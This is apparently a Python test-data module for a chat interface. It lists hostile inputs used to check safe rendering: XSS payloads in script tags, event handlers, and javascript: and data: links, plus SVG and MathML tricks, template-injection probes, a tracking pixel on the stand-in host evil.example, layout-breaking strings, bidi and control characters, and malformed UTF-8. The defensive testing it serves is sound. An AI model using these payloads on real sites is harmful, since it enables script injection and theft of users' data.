"""Hostile content, as data: text a person or a model might send to break the pages. Each item
is sent as a question and as a reply (tests/test_hostile_content.py); every one fits in a
message (MAX_MESSAGE_CHARS). A payload that runs sets `window.__pwned` or calls alert(); a
payload that breaks the layout is wide or deep. Lone surrogates and malformed UTF-8 cannot be
text at all: they come in raw request bodies (NOT_UNICODE) or from the upstream
(tests/test_upstream_unicode.py)."""
import base64

PWN = "window.__pwned=1"
SVG_PAYLOAD = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
HTML_PAYLOAD = base64.b64encode(b"<script>alert(1)</script>").decode()
PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAA"
           "AABJRU5ErkJggg==")

# (name, text): the name says what the item tries, and is the test's id.
CORPUS = [
    # HTML and script: shown as text, never parsed. The first item also titles a thread.
    ("script", f"<script>{PWN};alert(1)</script> after the script"),
    ("script variants", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script/x>{PWN}</script>"
                        f"<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("html", '<b>bold?</b> <div style="position:fixed;inset:0;background:red;z-index:99">'
             "covering the page</div> <marquee>moving</marquee> <blink>old</blink>"),
    ("style and meta", "<style>body,.composer{display:none}</style>"
                       '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
                       '<base href="https://evil.example/">'
                       "<link rel=stylesheet href=//evil.example/x.css>"),
    ("breaking out of elements", f"</textarea></title></p></div><script>{PWN}</script>"
                                 f"<!-- --><![CDATA[<script>{PWN}</script>]]>"),
    ("breaking out of attributes", f"\" onmouseover=\"{PWN}\" autofocus onfocus=\"{PWN}\" x=\" "
                                   f"' onmouseover='{PWN}' x='"),
    ("templates", "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${alert(1)} #{alert(1)} <%= 1 %>"),
    ("noscript and template tricks",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"
     "<template><script>alert(1)</script></template>"),
    # SVG, MathML and event handlers; without spaces, a whole tag is one streamed piece.
    ("handlers without spaces", f'<img/src="x"/onerror="{PWN}"><svg/onload="{PWN}">'),
    ("svg", f'<svg onload="{PWN}"></svg><svg><script>{PWN}</script></svg>'
            '<svg><a><animate attributeName=href values=javascript:alert(1) />'
            "<text x=20 y=20>click</text></a></svg>"),
    ("mathml mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("event handlers", f'<img src=x onerror="{PWN}"> <body onload=alert(1)> '
                       "<details open ontoggle=alert(1)>d</details> "
                       "<input autofocus onfocus=alert(1)> "
                       "<video><source onerror=alert(1)></video> "
                       "<iframe src=javascript:alert(1)></iframe> "
                       '<object data="javascript:alert(1)"></object> '
                       f'<embed src="data:text/html;base64,{HTML_PAYLOAD}">'),
    # javascript: and data: addresses, written every way Markdown or HTML might take them.
    ("javascript links", "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) "
                         "[c](javascript&colon;alert(1)) [d](&#106;avascript:alert(1)) "
                         "[e](java\tscript:alert(1)) [f](<javascript:alert(1)>) "
                         "[g]( javascript:alert(1) ) <javascript:alert(1)> [h](vbscript:msgbox(1)) "
                         "[i](file:///etc/passwd) <a href=\"javascript:alert(1)\">j</a>"),
    ("javascript by reference", "[click][r] and ![picture][s]\n\n[r]: javascript:alert(1)\n"
                                '[s]: javascript:alert(1) "a title"'),
    ("data links", f"[a](data:text/html;base64,{HTML_PAYLOAD}) "
                   "[b](DATA:text/html,<script>alert(1)</script>) "
                   f"[c](data:image/png;base64,{PNG_1PX}) <data:image/png;base64,{PNG_1PX}> "
                   f"![d](data:image/svg+xml;base64,{SVG_PAYLOAD}) "
                   f"![e](data:image/png;base64,{PNG_1PX})"),
    # Markdown link and image tricks.
    ("link attribute breakout", '[x](https://example.com/"onmouseover="alert(1)) '
                                '[y](https://example.com "t\\" onmouseover=\\"alert(1)") '
                                '![z" onerror="alert(1)](https://example.com/z.png) '
                                '![w](https://example.com/w.png "x\\" onerror=\\"alert(1)")'),
    ("markup in link text", "[<img src=x onerror=alert(1)>](https://example.com) "
                            "[**bold** `<script>`](https://example.com/ok) "
                            "[[nested](javascript:alert(1))](https://example.com)"),
    ("autolink tricks", '<https://example.com/"><script>alert(1)</script>> '
                        "<mailto:a@example.com?body=<script>> "
                        "https://example.com/<svg/onload=alert(1)>"),
    ("images", "![tracker](https://evil.example/pixel.png?secret=1) ![here](/static/favicon.svg)"),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; "
                 "&amp;lt;b&amp;gt; &#x3C;svg onload=alert(1)&#x3E; &NotARealEntity;"),
    # Enormous code and unbroken words: each scrolls inside its own box, never the page.
    ("unbroken word", "W" * 6000),
    ("unbroken address", "https://example.com/" + "a/" * 3000),
    ("unbroken emoji and joined sequences", "👍🏽" * 800 + "🏳️‍🌈" * 400),
    ("long code line", "```python\nx = '" + "y" * 9000 + "'\n```"),
    ("huge code block", "```\n" + ("z" * 150 + "\n") * 120 + "```"),
    ("unclosed fence", "```js\n" + f"{PWN};alert(1)\n" * 60),
    ("long inline code", "`" + "q" * 6000 + "`"),
    ("wide table", "| " + " | ".join(["head" * 40] * 8) + " |\n|" + "---|" * 8 + "\n| "
                   + " | ".join(["cell" * 80] * 8) + " |"),
    ("long heading, quote and lists", "# " + "H" * 3000 + "\n\n> " + "Q" * 3000 + "\n\n- "
                                      + "L" * 3000 + "\n\n1. " + "N" * 3000),
    ("deep nesting", ">" * 200 + " deep quote\n\n"
                     + "".join("  " * n + "-\n" for n in range(60))),
    # Control and bidirectional characters, NUL, and other odd code points.
    ("bidi", "file \u202egnp.exe\u202c, \u2066isolated\u2069, \u202dforced LTR, \u200fRLM, "
             "\u061cALM, Arabic مرحبا and Hebrew שלום 123, "
             "and an override left open: \u202e\u2067"),
    ("control characters", "".join(chr(c) for c in range(1, 32) if c != 10)
                           + "\x7f\x85\u2028\u2029 ANSI \x1b[31mred\x1b[0m, "
                           "form \x0cfeed, \rreturn"),
    ("NUL", f"before\x00after \x00<script>{PWN}</script>\x00"),
    ("invisible and special code points", "zero\u200bwidth\u200c\u200d\u2060\ufeff "
                                          "\ufff9anchors\ufffb \ufffc\ufffd \ufffe\uffff "
                                          "tags\U000e0041\U000e007f \U0010ffff"),
    ("combining marks", "Z" + "\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308" * 60
                        + " stacked " + "a\u0489" * 50),
]

# Raw request bodies that hold no Unicode text: a JSON reader must refuse them with a 400.
NOT_UNICODE = {
    "a lone surrogate escaped": b'"\\ud800"',
    "a surrogate in UTF-8": b'"\xed\xa0\x80"',
    "an invalid byte": b'"\xff\xfe"',
    "an overlong NUL": b'"\xc0\x80"',
    "a character cut short": b'"\xe2\x82"',
}
